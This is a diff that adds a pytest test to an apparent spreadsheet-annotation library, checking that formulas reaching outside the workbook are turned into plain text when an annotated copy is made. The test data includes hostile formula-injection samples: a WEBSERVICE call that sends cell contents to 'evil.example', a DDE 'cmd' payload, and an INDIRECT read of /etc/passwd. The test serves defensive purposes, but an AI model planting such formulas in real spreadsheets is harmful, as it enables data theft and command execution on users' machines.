@@ -16,6 +16,7 @@ from support.tiny_plan import DIMENSIONS, planned, tiny_plan
 from salesbook.problems import Location, Text, problem
 from salesbook.sheets.plan_books import BookOrder, build_book
 from salesbook.xlsx.annotation.annotate import annotate
+from salesbook.xlsx.patching.cell_text import Formula
 from salesbook.xlsx.patching.patch import set_cells
 from salesbook.xlsx.writing.write import write_book
 
@@ -46,6 +47,43 @@ def test_what_was_typed_stays_text_in_an_annotated_copy(text: str) -> None:
     noted = annotate(data, [problem("not-a-number", where, text, expected=Text.of(text))], language="both")
     before, after = formulas(data), formulas(noted)
     assert [each for each in after if each not in before and text.strip() in each] == []
+
+
+OUTSIDE = (
+    'WEBSERVICE("http://evil.example/?"&A1)',
+    '_xlfn.WEBSERVICE("x")',
+    'IF(A1>0,HYPERLINK("http://evil.example","here"),0)',
+    "HYPERLINK(A1)",
+    "[1]Sheet1!A1+1",
+    "SUM('[prices.xlsx]Sheet 1'!A1:A9)",
+    "[1]!total",
+    "cmd|'/C calc'!A0",
+    'IMAGE("https://evil.example/p.png")',
+    'RTD("server",,"topic")',
+    'IMPORTXML("x","y")',
+    "INDIRECT(\"'file:///etc/passwd'#$Sheet1.A1\")",
+)
+INSIDE = (
+    'HYPERLINK("#Actuals!A1","here")',
+    "SUM(Table1[Total])",
+    "Table1[[#This Row],[a]]*2",
+    '"see [1]! a|b"',
+    "A1-B1",
+)
+
+
+@pytest.mark.parametrize("text", [*OUTSIDE, *INSIDE])
+def test_formulas_that_reach_outside_are_text_in_an_annotated_copy(text: str) -> None:
+    base = book().data
+    row, column = places(base)["2027-01/tea", "revenue_ac"]
+    data = set_cells(base, "Actuals", {(row, column): Formula(text, 7)})
+    noted = annotate(
+        data, [problem("value-missing", Location(sheet="Actuals", cell="H11"), expected="a")], language="en"
+    )
+    cell = load_workbook(io.BytesIO(noted))["Actuals"].cell(row + 1, column + 1)
+    assert (cell.value, cell.data_type) == (f"={text}", "s" if text in OUTSIDE else "f")
+    told = [str(each.value) for line in load_workbook(io.BytesIO(noted))["Problems"] for each in line]
+    assert any("SB360" in each for each in told) == (text in OUTSIDE)
 
 
 @pytest.mark.parametrize("text", ['=HYPERLINK("x")', "@SUM(A1)", "+1+1"])
